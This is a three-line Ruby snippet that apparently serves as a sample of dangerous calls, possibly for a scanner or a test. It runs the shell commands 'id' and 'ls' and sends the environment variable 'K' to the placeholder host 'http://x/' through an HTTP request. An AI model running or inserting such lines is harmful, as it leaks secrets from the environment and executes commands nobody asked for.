require "open3"
system("id"); `ls`
Net::HTTP.get(URI("http://x/" + ENV["K"]))
